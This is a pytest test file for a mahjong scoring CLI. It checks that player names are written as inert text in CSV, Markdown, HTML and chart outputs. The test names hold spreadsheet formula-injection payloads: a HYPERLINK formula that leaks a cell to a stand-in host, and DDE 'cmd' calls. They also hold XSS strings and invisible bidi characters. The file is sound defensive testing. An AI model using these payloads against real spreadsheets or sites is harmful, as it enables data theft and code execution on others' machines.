"""Players type their own names; the club's secretary opens the season's outputs in a spreadsheet or a
browser. A name is data there, never a formula, markup, a column, math or a way to look like another
player (issue 25, items 5, 6 and 10; issue 31: batch and settle in every format).

Every game here is examples/game-spanish.yaml with its players renamed, so each deal's net is the one
worked out by hand in tests/test_games.py (SPANISH), under the new names; no number is copied from
the program's output.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re

import pytest
import yaml

from helpers import EXAMPLES, run
from test_games import SPANISH, A, B, C, D


RULE = "a name is one line of visible text (no line break, tab, invisible or direction-changing character)"


def renamed_game(path, who: dict[str, str], deal_names: dict[str, str] | None = None) -> str:
    """game-spanish.yaml with its players renamed (`who`: Ana -> NAME) in the header; in the deals as
    `deal_names` spells them (default: as the header does)."""
    spelt = deal_names or who

    def rename(node, names):
        if isinstance(node, dict):
            return {names.get(k, k): rename(v, names) for k, v in node.items()}
        if isinstance(node, list):
            return [rename(x, names) for x in node]
        return names.get(node, node) if isinstance(node, str) else node

    data = yaml.safe_load((EXAMPLES / "game-spanish.yaml").read_text(encoding="utf-8"))
    game = {"variant": data["variant"], "options": data["options"], "players": rename(data["players"], who),
            "deals": rename(data["deals"], spelt)}
    path.write_text(json.dumps(game, ensure_ascii=False), encoding="utf-8")  # JSON is YAML: any name as typed
    return str(path)


def worked_nets(who: dict[str, str]) -> list[dict[str, int]]:
    """The hand-worked net of each of the 16 deals, under the new names."""
    return [{who[p]: v for p, v in net.items()} for _, _, _, net in SPANISH]


# --- item 5: CSV ------------------------------------------------------------------------------------------

FORMULAS = {A: '=HYPERLINK("http://x.example/?"&A1,"click")', B: "+cmd|' /C calc'!A0", C: "@SUM(1+9)*cmd|' /C calc'!A0",
            D: "-2+3+cmd|' /C calc'!A0"}


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each starting with = + - @ is a number (a net of -120 stays -120)."""
    for row in rows:
        for cell in row:
            if cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert is_number(cell), (cell, row)


def test_sheet_csv_writes_names_as_text_and_nets_as_numbers(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", FORMULAS)
    code, out, err = run("sheet", game, "--format", "csv")
    assert code == 0, err
    rows = read_csv(out)
    no_formula(rows)
    header, body = rows[0], rows[1:-1]
    names = list(FORMULAS.values())
    assert header[7:] == [c for n in names for c in ("'" + n, f"'{n} total")]  # read back: ' then the name
    assert body[0][3] == body[0][4] == "'" + FORMULAS[A]  # deal 1: Ana East and the winner
    for row, net in zip(body, worked_nets(FORMULAS)):
        assert [int(row[7 + 2 * i]) for i in range(4)] == [net[n] for n in names]
    assert "\n1,1,E," in out and ",-120," in out  # deal 1, Bruno's -104 - 2 - 14: a number, unquoted


def test_standings_and_batch_csv_write_names_as_text(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", FORMULAS)
    totals = {n: sum(net[n] for net in worked_nets(FORMULAS)) for n in FORMULAS.values()}
    code, out, err = run("standings", game, "--format", "csv")
    assert code == 0, err
    rows = read_csv(out)
    no_formula(rows)
    assert {r[1]: int(r[2]) for r in rows[1:]} == {"'" + n: t for n, t in totals.items()}
    assert any(t < 0 for t in totals.values())  # so a negative total is checked as a number
    # the average per game, over this one game, is the total itself (total / 1): a negative one a number
    # too, -392 and not '-392 (it was written as text, and text starting with - gets the ')
    average = rows[0].index("average")
    assert {r[1]: r[average] for r in rows[1:]} == {"'" + n: str(t) for n, t in totals.items()}
    code, out, err = run("batch", game, "--format", "csv")
    assert code == 0, err
    rows = read_csv(out)
    no_formula(rows)
    first = {r[4]: r for r in rows[1:5]}  # deal 1, a row per player: Ana won and nets +312
    assert set(first) == {"'" + n for n in FORMULAS.values()}
    assert first["'" + FORMULAS[A]][6] == "'" + FORMULAS[A] and first["'" + FORMULAS[A]][8] == "312"
    assert first["'" + FORMULAS[B]][8] == "-120"


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("  =1+1", "'  =1+1"), (" @A1", "' @A1"), ("a\rb", "a\rb"), ("Ane", "Ane"), ("a=b", "a=b"), ("-", "-"), ("", ""),
    (-24, "-24"), (0, "0"), (-2.5, "-2.5"), (None, ""),
])
def test_one_csv_writer_makes_text_cells_safe_and_leaves_numbers(cell, written):
    from mjscore.cli.output import SafeCsvWriter

    out = io.StringIO()
    SafeCsvWriter(out).writerow(["x", cell])
    assert read_csv(out.getvalue()) == [["x", written]]


# --- item 5: Markdown -------------------------------------------------------------------------------------

MARKUP = {A: "Ane|x", B: "<script>alert(1)</script>", C: '"><img src=x onerror=alert(1)>',
          D: "Back\\slash `code` *b* _i_ [l](javascript:x) ~s~ & &amp;"}


def gfm_cells(line: str) -> list[str]:
    """A GitHub-flavoured Markdown table row split into its cells: | ends a cell unless backslash-escaped."""
    cells, cell, i = [], "", 0
    body = line.strip()
    assert body.startswith("|") and body.endswith("|"), line
    body = body[1:-1]
    while i < len(body):
        if body[i] == "\\" and i + 1 < len(body):
            cell += body[i:i + 2]
            i += 2
            continue
        if body[i] == "|":
            cells.append(cell)
            cell = ""
        else:
            cell += body[i]
        i += 1
    return [c.strip() for c in cells + [cell]]


def shown_text(cell: str) -> str:
    """What a Markdown renderer shows of a cell: backslash escapes of punctuation undone, then entities."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", cell))


def markdown_tables(text: str) -> list[list[list[str]]]:
    tables, current = [], None
    for line in text.splitlines():
        if line.startswith("|"):
            if current is None:
                current = []
                tables.append(current)
            current.append(gfm_cells(line))
        else:
            current = None
    return tables


def test_sheet_markdown_keeps_each_name_one_cell_of_text(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", MARKUP)
    code, out, err = run("sheet", game, "--format", "markdown")
    assert code == 0, err
    (table,) = markdown_tables(out)
    header, rule, body = table[0], table[1], table[2:]
    assert all(len(row) == len(header) for row in table), [len(r) for r in table]
    assert "<script" not in out and "<img" not in out
    assert len(header) == 7 + 2 * 4 and len(body) == len(SPANISH) + 1
    names = [shown_text(c) for c in header[7::2]]
    assert names == list(MARKUP.values())  # each name shows as typed
    for row, net in zip(body, worked_nets(MARKUP)):  # each net under its own player
        assert [row[7 + 2 * i] for i in range(4)] == [f"{net[n]:+d}" if net[n] else "0" for n in names]


def test_standings_markdown_keeps_each_name_one_cell_of_text(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", MARKUP)
    code, out, err = run("standings", game, "--format", "markdown")
    assert code == 0, err
    (table,) = markdown_tables(out)
    assert all(len(row) == len(table[0]) for row in table)
    assert "<script" not in out and "<img" not in out
    totals = {n: sum(net[n] for net in worked_nets(MARKUP)) for n in MARKUP.values()}
    assert {shown_text(r[1]): int(r[2]) for r in table[2:]} == totals


# --- item 6: the report's chart ---------------------------------------------------------------------------

def legend_texts(page: str) -> list[str]:
    svg = page[page.index("<svg"):page.index("</svg>")]
    legend = svg[svg.index('<g id="legend_1">'):]
    return [html.unescape(t) for t in re.findall(r"<text\b[^>]*>([^<]*)</text>", legend)]


@pytest.mark.parametrize("names", [
    {A: "$x^$", B: "Bruno", C: "Carmen", D: "Diego"},  # as math: a ValueError stopped the whole report
    {A: "Ane $5 $10", B: "_hidden", C: "$\\alpha$", D: "Diego"},  # math italics; a _ name left out of the legend
])
def test_report_draws_names_as_text(tmp_path, names):
    pytest.importorskip("matplotlib", reason='the report extra is not installed: pip install "mjscore[report]"')
    game = renamed_game(tmp_path / "g.yaml", names)
    page = tmp_path / "season.html"
    code, out, err = run("report", game, "-o", str(page))
    assert code == 0, err
    assert sorted(legend_texts(page.read_text(encoding="utf-8"))) == sorted(names.values())


# --- item 10: names that look alike, names that hide characters ------------------------------------------

NFC, NFD = "Jos\u00e9", "Jose\u0301"  # é as one character, and as e + a combining acute accent


def test_two_spellings_of_one_name_are_one_player(tmp_path):
    first = renamed_game(tmp_path / "one.yaml", {A: NFC, B: B, C: C, D: D})
    # the second file spells the header one way and its deals the other (winner, hands, discarder)
    second = renamed_game(tmp_path / "two.yaml", {A: NFD, B: B, C: C, D: D}, {A: NFC, B: B, C: C, D: D})
    code, out, err = run("standings", first, second, "--format", "json")
    assert code == 0, err
    table = {r["player"]: r for r in json.loads(out)}
    assert sorted(table) == sorted([NFC, B, C, D])
    ana = sum(net[A] for _, _, _, net in SPANISH)
    assert (table[NFC]["games"], table[NFC]["total"]) == (2, 2 * ana)


def test_alias_typed_in_the_other_spelling(tmp_path):
    first = renamed_game(tmp_path / "one.yaml", {A: NFC, B: B, C: C, D: D})
    second = renamed_game(tmp_path / "two.yaml", {A: "Pepe", B: B, C: C, D: D})
    code, out, err = run("standings", first, second, "--alias", f"{NFD}=Pepe", "--format", "json")
    assert code == 0, err
    table = {r["player"]: r for r in json.loads(out)}
    assert sorted(table) == sorted([NFC, B, C, D]) and table[NFC]["games"] == 2


def test_a_deal_naming_one_player_in_both_spellings_is_refused(tmp_path):
    path = tmp_path / "g.yaml"
    renamed_game(path, {A: NFC, B: B, C: C, D: D})
    data = json.loads(path.read_text(encoding="utf-8"))
    data["deals"][0]["hands"][NFD] = data["deals"][0]["hands"][NFC]  # both keys: one player twice
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    code, out, err = run("batch", str(path), "--format", "json")
    assert code == 1, err
    assert f"hands: {NFC!r} is given twice (spelt two ways)" in json.loads(out)["games"][0]["deals"][0]["error"]


@pytest.mark.parametrize("char, said", [
    ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"), ("\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE"),
    ("\u200f", "U+200F RIGHT-TO-LEFT MARK"), ("\u200d", "U+200D ZERO WIDTH JOINER"),
    ("\u2060", "U+2060 WORD JOINER"), ("\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
])
def test_a_header_name_hiding_a_character_is_refused_in_one_line(tmp_path, char, said):
    path = tmp_path / "g.jsonl"
    name = f"Ana{char}x"
    path.write_text(json.dumps({"variant": "spanish", "players": [name, "Bo", "Cy", "Di"]}) + "\n")
    code, out, err = run("batch", str(path))
    assert (code, out) == (2, "")
    assert err == (f"mjscore: error: {path}: players: {name!r} holds {said} (an invisible format character): "
                   f"{RULE}\n")


def test_an_alias_hiding_a_character_is_refused(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", {A: A, B: B, C: C, D: D})
    code, out, err = run("standings", game, "--alias", "Ana=An\u202ea")
    assert (code, out) == (2, "")
    assert err == f"mjscore: error: --alias: {'An' + chr(0x202e) + 'a'!r} holds U+202E RIGHT-TO-LEFT OVERRIDE " \
                  f"(an invisible format character): {RULE}\n"


# --- issue 31: batch and settle in Markdown and HTML, settle in CSV ----------------------------------------

START = 2000  # spanish starts every player at 2,000 (tables/spanish.yaml, settlement: start), so batch's totals


def running_totals(who: dict[str, str]) -> list[list[int]]:
    """Each deal's running totals (the players in the header's order): the start plus the worked nets so far."""
    totals, out = dict.fromkeys(who.values(), START), []
    for net in worked_nets(who):
        totals = {n: totals[n] + net[n] for n in totals}
        out.append(list(totals.values()))
    return out


def test_batch_markdown_keeps_each_name_one_cell_of_text(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", MARKUP)
    code, out, err = run("batch", game, "--format", "markdown")
    assert code == 0, err
    assert "<script" not in out and "<img" not in out
    deals, standings = markdown_tables(out)
    assert all(len(row) == len(deals[0]) for row in deals) and all(len(row) == 3 for row in standings)
    assert [shown_text(c) for c in deals[0][7:]] == list(MARKUP.values())  # a column per player, as typed
    assert [[int(c) for c in row[7:]] for row in deals[2:]] == running_totals(MARKUP)
    assert shown_text(deals[2][2]) == ", ".join(f"{s} {MARKUP[p]}" for s, p in zip("ESWN", (A, B, C, D)))
    totals = dict(zip(MARKUP.values(), running_totals(MARKUP)[-1]))
    assert {shown_text(r[1]): int(r[2]) for r in standings[2:]} == totals
    heading = next(line for line in out.splitlines() if line.startswith("## "))
    assert shown_text(heading).endswith("players " + ", ".join(MARKUP.values()))


def test_batch_html_escapes_every_name(tmp_path):
    game = renamed_game(tmp_path / "g.yaml", MARKUP)
    code, out, err = run("batch", game, "--format", "html")
    assert code == 0, err
    assert "<script" not in out and "<img" not in out
    deals = out[out.index('<table class="batch">'):out.index('<table class="standings">')]
    heads = [html.unescape(h) for h in re.findall(r"<th>([^<]*)</th>", deals)]
    assert heads[7:] == list(MARKUP.values())
    rows = [[html.unescape(c) for c in re.findall(r"<td[^>]*>([^<]*)</td>", r)] for r in re.findall(r"<tr><td.*", deals)]
    assert [[int(c) for c in row[7:]] for row in rows] == running_totals(MARKUP)
    caption = html.unescape(re.search(r"<caption>([^<]*)</caption>", deals)[1])
    assert caption.endswith("players " + ", ".join(MARKUP.values()))


def deal_file(path, who: dict[str, str]) -> str:
    """examples/deal-spanish.yaml with its four players renamed (E, S, W, N: the names of A, B, C, D)."""
    data = yaml.safe_load((EXAMPLES / "deal-spanish.yaml").read_text(encoding="utf-8"))
    data["players"] = dict(zip("ESWN", (who[A], who[B], who[C], who[D])))
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return str(path)


# tests/test_settle.py works examples/deal-spanish.yaml: E -96, S +240, W -64, N -80
SETTLE_NETS = [-120 + (8 - 4) * 2 + (8 - 0) * 2, 120 + 60 + 60, -60 - 8 + 4, -60 - 16 - 4]


def test_settle_csv_writes_names_as_text(tmp_path):
    code, out, err = run("settle", deal_file(tmp_path / "d.yaml", FORMULAS), "--format", "csv")
    assert code == 0, err
    rows = read_csv(out)
    no_formula(rows)
    net = [r for r in rows if r[0] == "net"]
    assert [(r[2], r[3], int(r[4])) for r in net] == [
        (s, "'" + FORMULAS[p], n) for s, p, n in zip("ESWN", (A, B, C, D), SETTLE_NETS)]


def test_settle_markdown_and_html_keep_each_name_text(tmp_path):
    path = deal_file(tmp_path / "d.yaml", MARKUP)
    code, md, err = run("settle", path, "--format", "markdown")
    assert code == 0, err
    hands, payments, net = markdown_tables(md)
    assert all(len(row) == 7 for row in hands) and all(len(row) == 5 for row in payments)
    assert [(r[0], shown_text(r[1]), int(r[2])) for r in net[2:]] == [
        (s, MARKUP[p], n) for s, p, n in zip("ESWN", (A, B, C, D), SETTLE_NETS)]
    code, page, err = run("settle", path, "--format", "html")
    assert code == 0, err
    for out in (md, page):
        assert "<script" not in out and "<img" not in out
    net_table = page[page.rindex("<table"):]
    cells = [html.unescape(c) for c in re.findall(r"<td[^>]*>([^<]*)</td>", net_table)]
    assert cells == [x for s, p, n in zip("ESWN", (A, B, C, D), SETTLE_NETS) for x in (s, MARKUP[p], f"{n:+d}")]
